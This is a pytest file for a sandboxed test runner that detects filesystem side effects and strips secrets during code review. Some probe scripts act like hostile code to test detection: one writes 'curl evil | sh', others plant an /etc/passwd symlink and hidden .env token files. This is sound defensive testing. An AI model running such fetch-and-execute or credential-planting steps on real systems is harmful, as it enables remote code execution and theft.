"""The test command in a sandboxed copy of the head, and the filesystem gate around it."""

from __future__ import annotations

import ctypes
import os
import shlex
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from bot.engine.groups import MANIFEST_PATH
from bot.engine.semantic import CheckConclusion, SideEffectKind
from bot.local import sandbox
from bot.local.fsgate import COVERAGE_WHAT, TOOL_OUTPUTS, compare, fingerprint
from bot.local.git import Git
from bot.local.testrun import TestRun, run_tests
from tests.gitrepo import GitRepo, check, rules

PY = shlex.quote(sys.executable)


@pytest.fixture
def pr(repo: GitRepo) -> GitRepo:
    repo.write(".gitignore", ".env\nbuild/\n")
    repo.write("src/app.py", "x = 1\n")
    repo.write("run.sh", "echo\n")
    repo.symlink("link", "src/app.py")
    repo.commit("base")
    repo.branch("pr")
    repo.write("src/app.py", "x = 2\n")
    repo.commit("pr")
    return repo


@pytest.fixture(params=["namespace", "subreaper", "session"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Each isolation the runner can fall back to (the namespace one only where this machine has it)."""
    wanted: str = request.param
    if wanted == "namespace":
        if sandbox.platform_isolation()[0] != "namespace":
            pytest.skip("no user and PID namespaces here")
    else:
        monkeypatch.setattr(sandbox, "platform_isolation", lambda: (wanted, ()))
    return wanted


def _script(body: str) -> str:
    return f"{PY} -c {shlex.quote(body)}"


def test_passing_and_failing_commands(pr: GitRepo) -> None:
    ok = check(pr, test_command=_script("print('fine')"))
    assert (ok.semantic.value, ok.checks[0].conclusion) == ("pass", CheckConclusion.SUCCESS)
    details = ok.checks[0].details
    assert details.startswith("exit status 0 after ") and details.endswith("fine")
    assert "the exit status was the only evidence (no tests.report" in details.splitlines()[0]
    assert "semantic evidence: the exit status was the only evidence" in " ".join(ok.verdict.reasons)
    bad = check(pr, test_command=_script("import sys; print('nope'); sys.exit(3)"))
    assert bad.semantic.value == "fail" and bad.checks[0].details.startswith("exit status 3")
    missing = check(pr, test_command="definitely-not-a-command-xyz")
    assert missing.semantic.value == "fail" and "exit status 127" in missing.checks[0].details


def test_tests_run_on_the_head_commit_in_a_copy_that_leads_nowhere(pr: GitRepo) -> None:
    pr.checkout("main")
    (pr.root / "src" / "app.py").write_text("x = 'dirty working tree'\n")
    head = pr.git("rev-parse", "pr").strip()
    probe = (
        "import os, subprocess, sys\n"
        "assert open('src/app.py').read() == 'x = 2\\n'\n"
        "git = lambda *a: subprocess.run(['git', *a], capture_output=True, text=True).stdout.strip()\n"
        f"assert git('rev-parse', 'HEAD') == {head!r}, 'the real commit'\n"
        "assert git('status', '--porcelain') == '', 'a clean checkout'\n"
        "assert git('remote') == '' and git('worktree', 'list').count('\\n') == 0\n"
        "assert not os.path.exists('.git/objects/info/alternates')\n"
        "assert os.path.isdir('.git'), 'a repository of its own'\n"
    )
    receipt = check(pr, head="pr", test_command=_script(probe))
    assert receipt.semantic.value == "pass", receipt.checks[0].details
    assert Git(pr.root).run("worktree", "list").decode().count("\n") == 1


def test_minimal_environment_own_home_and_tmpdir_and_no_stdin(pr: GitRepo) -> None:
    probe = (
        "import os, sys, tempfile\n"
        "assert 'MY_SECRET_TOKEN' not in os.environ and 'GIT_DIR' not in os.environ\n"
        "assert os.environ['ALLOWED_BY_MANIFEST'] == 'yes'\n"
        "assert os.environ['LC_ALL'] == 'C.UTF-8' and 'PATH' in os.environ\n"
        "home, tmp = os.environ['HOME'], os.environ['TMPDIR']\n"
        f"assert home != {os.environ.get('HOME', '')!r} and os.listdir(home) == []\n"
        "assert tempfile.gettempdir() == tmp and not os.getcwd().startswith((home, tmp))\n"
        "assert sys.stdin.read() == ''\n"
        "assert 'http_proxy' not in os.environ and os.environ['NO_PROXY'] == 'localhost'\n"
    )
    pr.checkout("main")
    pr.write(MANIFEST_PATH, "version: 1\ntests: {environment: [ALLOWED_BY_MANIFEST]}\n")
    pr.commit("policy")
    pr.checkout("pr")
    pr.git("merge", "-q", "--no-edit", "main")
    env = {
        **os.environ, "MY_SECRET_TOKEN": "s3cr3t", "GIT_DIR": "/elsewhere", "ALLOWED_BY_MANIFEST": "yes",
        "LC_ALL": "C.UTF-8", "http_proxy": "http://user:pass@proxy:3128", "NO_PROXY": "localhost",
    }  # fmt: skip
    receipt = check(pr, test_command=_script(probe), environment=env)
    assert receipt.semantic.value == "pass", receipt.checks[0].details


def test_every_kind_of_side_effect_is_caught_even_gitignored_ones(pr: GitRepo) -> None:
    body = (
        "import os, pathlib\n"
        "pathlib.Path('.env').write_text('TOKEN=x')\n"
        "pathlib.Path('src/app.py').write_text('x = 3')\n"
        "os.remove('run.sh')\n"
        "os.makedirs('build/deep'); pathlib.Path('build/deep/out.o').write_text('o')\n"
        "os.makedirs('__pycache__', exist_ok=True); pathlib.Path('__pycache__/m.pyc').write_text('c')\n"
        "pathlib.Path('cache.pyc').write_text('c')\n"
        "os.chmod('src', 0o700); os.symlink('/etc/passwd', 'src/evil')\n"
        "os.remove('link'); os.symlink('run.sh', 'link')\n"
    )
    receipt = check(pr, test_command=_script(body))
    found = [(v.path, v.id) for v in receipt.scope]
    assert found == [
        (".env", "side-effect:created"),
        ("build", "side-effect:created"),
        ("cache.pyc", "side-effect:created"),
        ("link", "side-effect:modified"),
        ("run.sh", "side-effect:deleted"),
        ("src", "side-effect:modified"),
        ("src/app.py", "side-effect:modified"),
        ("src/evil", "side-effect:created"),
    ]
    messages = {v.path: v.message for v in receipt.scope}
    assert "(symlink -> /etc/passwd)" in messages["src/evil"]
    assert "(target src/app.py -> run.sh)" in messages["link"]
    assert "(mode 0755 -> 0700)" in messages["src"]
    assert receipt.semantic.value == "pass" and receipt.verdict.conclusion.value == "failure"


def test_a_file_hidden_in_a_tool_directory_is_reported(pr: GitRepo) -> None:
    body = (
        "import os, pathlib\n"
        "for d in ('__pycache__', 'src/__pycache__', 'node_modules/left-pad', '.pytest_cache/v/cache',"
        " '.venv/lib', '.mypy_cache/3.11', '.hypothesis/examples/0123456789abcdef'):\n"
        "    os.makedirs(d, exist_ok=True)\n"
        "pathlib.Path('__pycache__/.env').write_text('TOKEN=x')\n"
        "pathlib.Path('src/__pycache__/app.cpython-311.pyc').write_bytes(b'ok')\n"
        "pathlib.Path('src/__pycache__/nested').mkdir()\n"
        "pathlib.Path('src/__pycache__/nested/deeper.pyc').write_bytes(b'not directly inside')\n"
        "pathlib.Path('node_modules/.env').write_text('TOKEN=x')\n"
        "pathlib.Path('node_modules/left-pad/index.js').write_text('ok')\n"
        "pathlib.Path('.pytest_cache/v/cache/lastfailed').write_text('{}')\n"
        "pathlib.Path('.pytest_cache/v/payload.sh').write_text('curl evil | sh')\n"
        "pathlib.Path('.venv/lib/site.py').write_text('ok')\n"
        "pathlib.Path('.venv/.env').write_text('TOKEN=x')\n"
        "pathlib.Path('.mypy_cache/3.11/cache.db').write_text('ok')\n"
        "pathlib.Path('.hypothesis/examples/0123456789abcdef/fedcba9876543210').write_text('ok')\n"
        "pathlib.Path('.coverage').write_text('ok')\n"
        "os.symlink('/etc/passwd', '__pycache__/x.pyc')\n"
    )
    receipt = check(pr, test_command=_script(body))
    assert [(v.path, v.id) for v in receipt.scope] == [
        (".pytest_cache/v/payload.sh", "side-effect:created"),
        (".venv/.env", "side-effect:created"),
        ("__pycache__/.env", "side-effect:created"),
        ("__pycache__/x.pyc", "side-effect:created"),
        ("node_modules/.env", "side-effect:created"),
        ("src/__pycache__/nested/deeper.pyc", "side-effect:created"),
    ]


def test_a_tracked_file_in_a_tool_directory_is_compared_like_any_other(repo: GitRepo) -> None:
    repo.write("node_modules/vendored/index.js", "module.exports = 1\n")
    repo.write("src/a.py", "x = 1\n")
    repo.commit("base")
    repo.branch("pr")
    repo.write("src/a.py", "x = 2\n")
    repo.commit("pr")
    receipt = check(repo, test_command=_script("open('node_modules/vendored/index.js', 'w').write('evil')"))
    assert [(v.path, v.id) for v in receipt.scope] == [
        ("node_modules/vendored/index.js", "side-effect:modified")
    ]


def test_chmod_000_and_a_fifo_are_reported(pr: GitRepo) -> None:
    body = "import os\nos.chmod('run.sh', 0o000)\nos.mkfifo('pipe')\nos.chmod('src/app.py', 0o4644)\n"
    receipt = check(pr, test_command=_script(body))
    messages = {v.path: v.message for v in receipt.scope}
    assert set(messages) == {"run.sh", "pipe", "src/app.py"}
    assert "(mode 0644 -> 0000)" in messages["run.sh"]
    assert "(fifo)" in messages["pipe"]
    assert "(mode 0644 -> 4644)" in messages["src/app.py"]


def test_manifest_ignores_listed_side_effects(pr: GitRepo) -> None:
    pr.checkout("main")
    pr.write(MANIFEST_PATH, "version: 1\ntests: {ignore_side_effects: ['build/**', '.benchmarks/']}\n")
    pr.commit("policy")
    pr.checkout("pr")
    pr.git("merge", "-q", "--no-edit", "main")
    # README's own example, and the directory a pytest benchmark plugin writes, each created whole
    body = "import os; os.makedirs('build/x'); os.makedirs('.benchmarks/Linux'); open('.benchmarks/Linux/1.json', 'w')"
    receipt = check(pr, test_command=_script(body))
    assert rules(receipt) == []
    receipt = check(pr, test_command=_script(body + "; open('.env', 'w')"))
    assert rules(receipt) == [("side-effect", ".env")]


def test_tests_command_from_the_manifest(pr: GitRepo) -> None:
    pr.checkout("main")
    pr.write(MANIFEST_PATH, f"version: 1\ntests: {{command: {_script('import sys; sys.exit(1)')!r}}}\n")
    pr.commit("policy")
    pr.checkout("pr")
    pr.git("merge", "-q", "--no-edit", "main")
    receipt = check(pr, no_tests=False)
    assert receipt.semantic.value == "fail"
    assert check(pr).semantic.value == "skipped"


def test_timeout_stops_every_process_within_the_limit(pr: GitRepo, tmp_path: Path, mode: str) -> None:
    marker = tmp_path / "survivor"
    child = tmp_path / "child.py"
    child.write_text(f"import time\ntime.sleep(3)\nopen({str(marker)!r}, 'w').close()\n")
    body = (
        f"import subprocess, sys, time\nsubprocess.Popen([sys.executable, {str(child)!r}])\ntime.sleep(60)\n"
    )
    git = Git(pr.root)
    started = time.monotonic()
    evidence = run_tests(git, git.resolve("pr"), TestRun(_script(body), 2.0, dict(os.environ)))
    assert time.monotonic() - started < 2.0 + 1.5, "the limit includes the teardown (plus the checkout)"
    (result,) = evidence.checks
    assert result.conclusion is CheckConclusion.TIMED_OUT and result.details.startswith("timed out after 2 s")
    time.sleep(3.5)
    assert not marker.exists()


def test_a_head_that_cannot_be_checked_out_is_an_error(pr: GitRepo) -> None:
    evidence = run_tests(Git(pr.root), "0" * 40, TestRun("true", 10, {}))
    (result,) = evidence.checks
    assert result.conclusion is CheckConclusion.ERROR
    assert result.details.startswith("could not start the test command: could not check out 0000000000")
    assert "git fetch failed" in result.details


def test_a_command_that_cannot_start_is_an_error(pr: GitRepo) -> None:
    git = Git(pr.root)
    too_long = "true " + "x" * 3_000_000  # beyond ARG_MAX: exec fails with E2BIG
    evidence = run_tests(git, git.resolve("pr"), TestRun(too_long, 10, {}))
    (result,) = evidence.checks
    assert result.conclusion is CheckConclusion.ERROR
    assert result.details.startswith("could not start the test command: [Errno 7] Argument list too long")


def test_the_output_tail_is_redacted(pr: GitRepo) -> None:
    token = "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"  # detect-secrets' github_token_test.py
    receipt = check(pr, test_command=_script(f"print('token: {token}'); raise SystemExit(1)"))
    details = receipt.checks[0].details
    assert token not in details and "[redacted 'ghp_…' (40 characters)]" in details


def test_fingerprint_and_compare(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("1")
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "f").write_text("x")
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("receipt's own")
    before = fingerprint(tmp_path)
    assert before["pipe"].kind == "fifo" and before["d"].kind == "dir" and ".git" not in before
    (tmp_path / "a").chmod(0o755)
    (tmp_path / "d" / "f").unlink()
    (tmp_path / "d").rmdir()
    (tmp_path / "d").write_text("now a file")
    (tmp_path / ".git" / "config").write_text("changed: not the change's")
    effects = compare(before, fingerprint(tmp_path, before))
    assert [(e.path, e.kind, e.detail) for e in effects] == [
        ("a", SideEffectKind.MODIFIED, " (mode 0644 -> 0755)"),
        ("d", SideEffectKind.MODIFIED, " (dir -> file, mode 0644)"),
        ("d/f", SideEffectKind.DELETED, " (file, mode 0644)"),
    ]


def test_the_readme_lists_every_tool_output() -> None:
    readme = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
    for tool in TOOL_OUTPUTS:
        assert f"`{tool.directory}/`" in readme and tool.what in readme
    assert COVERAGE_WHAT in readme


def test_receipt_is_not_dumpable_and_adopts_orphans_only_while_the_run_lasts(
    pr: GitRepo, monkeypatch: pytest.MonkeyPatch, mode: str
) -> None:
    """Not dumpable: another process of the same user cannot read or write receipt's memory and
    environment (ptrace, /proc/PID/mem, /proc/PID/environ) while the code under review runs."""
    libc = ctypes.CDLL(None, use_errno=True)

    def state() -> tuple[int, int]:
        subreaper = ctypes.c_int(-1)
        libc.prctl(37, ctypes.byref(subreaper), 0, 0, 0)  # PR_GET_CHILD_SUBREAPER
        return libc.prctl(3, 0, 0, 0, 0), subreaper.value  # PR_GET_DUMPABLE

    seen: list[tuple[int, int]] = []
    supervise = sandbox._supervise

    def spy(*args: Any, **kwargs: Any) -> Any:
        seen.append(state())
        return supervise(*args, **kwargs)

    monkeypatch.setattr(sandbox, "_supervise", spy)
    before = state()
    assert check(pr, test_command="true").semantic.value == "pass"
    assert seen == [(0, 1 if mode == "subreaper" else before[1])]
    assert state() == before
